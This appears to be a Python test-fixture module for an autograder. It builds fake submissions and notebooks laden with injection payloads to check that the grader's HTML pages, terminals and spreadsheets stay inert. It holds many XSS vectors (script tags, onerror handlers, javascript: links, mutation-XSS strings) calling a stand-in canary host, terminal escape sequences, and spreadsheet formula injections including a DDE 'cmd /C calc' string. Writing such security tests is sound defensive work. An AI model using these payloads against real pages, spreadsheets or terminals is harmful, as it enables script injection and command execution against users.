"""Families 29 and 30: what a page, a terminal or a table might run when a person looks at it.

The verdicts are those of a wrong answer. tests/security/test_pages.py opens the pages of these
submissions in a browser; each payload there would show, log, ask for or leave a CANARY.
"""

from __future__ import annotations

from typing import Any

from autograder.results.outcome import Status
from tests.evil import Catalogue, Evil

EVIL = Catalogue()
CRASHED, FAILED = Status.CRASHED, Status.FAILED

_FAR = "http://canary.invalid"  # a name that no server has
SCRIPT = (
    "window.CANARY=1;console.log(`CANARY`);alert(`CANARY`);"
    f"fetch(`{_FAR}/fetch`);new/**/WebSocket(`ws://canary.invalid/socket`);window.open(`about:blank`)"
)
_IMAGE = f"<img src=x onerror={SCRIPT}>"

HTML = [
    f"<script>{SCRIPT}</script>",
    f"<script src={_FAR}/script.js></script>",
    _IMAGE,
    f"<img src={_FAR}/image.png>",
    f"<svg onload={SCRIPT}><script>{SCRIPT}</script><image href={_FAR}/svg.png /></svg>",
    f"<iframe src={_FAR}/frame></iframe><iframe srcdoc='<script>parent.{SCRIPT}</script>'></iframe>",
    f"<object data={_FAR}/object></object><embed src={_FAR}/embed>",
    f"<form action={_FAR}/form><input autofocus onfocus={SCRIPT}>"
    f"<button formaction='javascript:{SCRIPT}'>Next</button></form>",
    f"<base href={_FAR}/base/>",
    f"<meta http-equiv=refresh content='0;url={_FAR}/refresh'>",
    f"<link rel=stylesheet href={_FAR}/link.css>",
    f"<style>@import '{_FAR}/import.css'; body {{background: url({_FAR}/style.png)}}</style>",
    f"<div style='position:fixed;inset:0;background:url({_FAR}/attribute.png)'>over it all</div>",
    f"<a href='javascript:{SCRIPT}'>1</a> <a href=' jAva&#10;script:{SCRIPT}'>2</a>",
    f"<a href='files/javascript:{SCRIPT}'>3</a> <a href='data:text/html,{_IMAGE}'>4</a>",
    f"<a href='//canary.invalid/'>5</a> <a href='evil.html' ping={_FAR}/ping>6</a>",
    f"<video src={_FAR}/video poster={_FAR}/poster></video><audio src={_FAR}/audio></audio>",
    f"<details open ontoggle={SCRIPT}><summary onclick={SCRIPT}>more</summary></details>",
    # Forms that change their meaning when they are parsed a second time.
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{_IMAGE}'>",
    f"<noscript><p title='</noscript>{_IMAGE}'>",
    f"<svg></p><style><a title='</style>{_IMAGE}'>",
    f"&lt;script&gt;{SCRIPT}&lt;/script&gt; &#60;img src=x onerror={SCRIPT}&#62;",
    f"--> ]]> </pre></code></div></title></style></textarea></template></body>{_IMAGE}",
    f"'\"`=/>{_IMAGE}",
    "<p id=CANARY name=CANARY class='navbar-fixed-top modal in'>over it all</p>",
]  # fmt: skip
PAGE = "\n\n".join(HTML)
MARKDOWN = f"""
{PAGE}

[link](javascript:{SCRIPT}) [files](files/javascript:{SCRIPT}) [tab](java\tscript:{SCRIPT})
<javascript:{SCRIPT}> [named] [beside](evil.html) [data](data:text/html;base64,PHNjcmlwdD4=)
![far]({_FAR}/markdown.png) ![script](javascript:{SCRIPT}) ![drawn](attachment:drawn.svg)
![quoted](attachment:quoted.png) ![beside](evil.svg "{_IMAGE}")

[named]: javascript:{SCRIPT} "{_IMAGE}"

```html" onmouseover="{SCRIPT}
{_IMAGE}
```

```mermaid
graph LR; A["{_IMAGE}"] --> B; click A href "javascript:{SCRIPT}"
```

| a table |
| --- |
| {_IMAGE} |

$\\href{{javascript:{SCRIPT}}}{{x}}$ $$\\require{{html}} \\style{{background:url({_FAR}/tex)}}{{x}}$$
$\\unicode{{x3c}}$ $<img src=x onerror={SCRIPT}>$ \\begin{{script}}{SCRIPT}\\end{{script}}
"""
TERMINAL = (
    f"\x1b]8;;{_FAR}/osc\x1b\\link\x1b]8;;\x1b\\ \x1b]8;;javascript:{SCRIPT}\x07link\x1b]8;;\x07"
    f"\x1b]0;CANARY\x07\x1b]52;c;Q0FOQVJZ\x07\x9d0;CANARY\x9c\x9b2J\x1b[2J\x1b[H\x1bc"
    f"\x1b[38;2;1;2;3m{_IMAGE}\x1b[0m \x1b[31m{_IMAGE} \x1b[48;5;300m \x1b[1;2;3;4;5m\r\x08\x00"
)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("x")',
]
_WRONG = "def add(a, b): return 0\n"


def _says(text: str) -> str:
    """A class whose objects say `text` of themselves, in one line."""
    return f"class Says:\n    def __repr__(self): return {text!r}\n"


# 29: outputs.
EVIL.source(
    29,
    "html printed",
    f"{_WRONG}import sys\nprint({PAGE!r})\nprint({PAGE!r}, file=sys.stderr)\n{PAGE!r}",
)
EVIL.source(29, "html as a result", f"{_WRONG}{_says(PAGE)}Says()")
EVIL.source(29, "terminal codes printed", f"{_WRONG}print({TERMINAL!r})\n{_says(TERMINAL)}Says()")
EVIL.source(
    29,
    "kinds of results",
    _WRONG
    + f"""
for kind in ("text/html", "image/svg+xml", "application/javascript", "text/markdown", "text/latex",
             "text/vnd.mermaid", "application/json", "application/pdf", "text/html; charset=utf-8",
             "application/vnd.jupyter.widget-view+json", "application/vnd.jupyter.widget-state+json"):
    display({{kind: {PAGE!r}, "text/plain": {PAGE!r}}}, raw=True)
""",
)
EVIL.source(
    29,
    "pictures that are none",
    _WRONG
    + f"""
import base64
beginning = b"\\x89PNG\\r\\n\\x1a\\n"
for picture in (base64.b64encode(beginning).decode() + {_IMAGE!r}, "x' onerror='" + {SCRIPT!r},
                base64.b64encode(beginning + {PAGE!r}.encode()).decode(), {PAGE!r}):
    display({{"image/png": picture}}, raw=True,
            metadata={{"image/png": {{"width": '1 onload="' + {SCRIPT!r}, "alt": '">' + {_IMAGE!r}}}}})
""",
)

# 29: sources, names and messages that a page quotes.
EVIL.source(
    29, "html in a source", f"# {PAGE!r}\n{_WRONG.strip()}  # {_IMAGE}\ntext = '''{_IMAGE}'''"
)
EVIL.source(
    29,
    "html in a docstring and in names",
    f"""
    def add(a, b):
        return 0
    add.__doc__ = add.__name__ = add.__qualname__ = add.__module__ = {PAGE!r}
    """,
)
EVIL.source(29, "html returned", f"def add(a, b): return {PAGE!r}", says="<script>")
EVIL.source(
    29, "html in a dict", f"def add(a, b): return {{{PAGE!r}: [{_IMAGE!r}]}}", says="<script>"
)
EVIL.source(
    29, "html as a type", f"def add(a, b): return type({_IMAGE!r}, (), {{}})()", says="<img"
)
EVIL.source(29, "an object that says html", f"{_says(PAGE)}def add(a, b): return Says()")
EVIL.source(29, "terminal codes returned", f"def add(a, b): return {TERMINAL!r}")
for _name, _text in {"html": PAGE, "markdown": MARKDOWN, "terminal codes": TERMINAL}.items():
    _error = f"type({_IMAGE!r}, (Exception,), {{}})({_text!r})"
    EVIL.source(
        29, f"{_name} raised in a call", f"def add(a, b):\n    raise {_error}", CRASHED, "<img"
    )
    EVIL.source(29, f"{_name} raised in a cell", f"raise {_error}", CRASHED, "<img")
EVIL.source(
    29, "html in a syntax error", f"def add(a, b):\n    return {_IMAGE}", CRASHED, "SyntaxError"
)


# 29: what a notebook holds beside code.
def _markdown_cells(notebook: dict[str, Any]) -> None:
    attached = {
        "drawn.svg": {"image/svg+xml": f"<svg onload={SCRIPT}>"},
        "quoted.png": {"image/png": f'x" onerror="{SCRIPT}', "text/html": PAGE},
    }
    whole = MARKDOWN.replace("![drawn](attachment:drawn.svg)", "")
    sources = [*HTML, whole, "![drawn](attachment:drawn.svg)", "![quoted](attachment:quoted.png)"]
    notebook["cells"] += [
        {
            "cell_type": "markdown",
            "id": f"m{n}",
            "metadata": {},
            "source": s,
            "attachments": attached,
        }
        for n, s in enumerate(sources)
    ]


def _raw_cells(notebook: dict[str, Any]) -> None:
    metadata = {"format": "text/html", "raw_mimetype": "text/html"}
    for source in (PAGE, f"```\n{PAGE}\n```", f"`````\n~~~\n{PAGE}"):
        cell = {
            "cell_type": "raw",
            "id": f"raw{len(source)}",
            "metadata": metadata,
            "source": source,
        }
        notebook["cells"].append(cell)


def _saved_outputs(notebook: dict[str, Any]) -> None:
    data = dict.fromkeys(
        ("text/html", "image/svg+xml", "application/javascript", "text/plain"), PAGE
    )
    shown = {"output_type": "display_data", "data": data, "metadata": {"isolated": True}}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"], cell["execution_count"] = [shown], PAGE


def _metadata(notebook: dict[str, Any]) -> None:
    notebook["metadata"] |= {
        "title": PAGE,
        "kernelspec": {"name": PAGE, "display_name": PAGE, "language": PAGE},
        "language_info": {"name": PAGE, "pygments_lexer": PAGE},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {PAGE: PAGE}}},
    }
    for cell in notebook["cells"]:
        cell["metadata"] |= {"tags": [PAGE], "name": PAGE, "alt": PAGE, "magics_language": PAGE}
        cell["metadata"].setdefault("nbgrader", {})["comment"] = PAGE
    notebook["cells"].append({"cell_type": _IMAGE, "id": _IMAGE, "metadata": {}, "source": PAGE})


for _name, _edit in {
    "markdown cells": _markdown_cells,
    "raw cells": _raw_cells,
    "saved outputs": _saved_outputs,
    "metadata": _metadata,
}.items():
    EVIL.append(Evil(29, _name, _WRONG, FAILED, "returned 0", edit=_edit))
EVIL.source(
    29,
    "pages beside the notebook",
    _WRONG,
    FAILED,
    "returned 0",
    evil__html=PAGE.encode(),
    alpha__html=PAGE.encode(),
    evil__svg=PAGE.encode(),
)

# 30: what a spreadsheet would take for a formula.
EVIL.source(
    30, "formulas printed", f"{_WRONG}print(*{FORMULAS!r}, sep='\\n')\n{_says(FORMULAS[0])}Says()"
)
EVIL.source(30, "formulas returned", f"def add(a, b): return {FORMULAS!r}", says="returned")
EVIL.source(
    30, "a formula raised", f"def add(a, b):\n    raise Exception({FORMULAS[1]!r})", CRASHED, "=cmd"
)
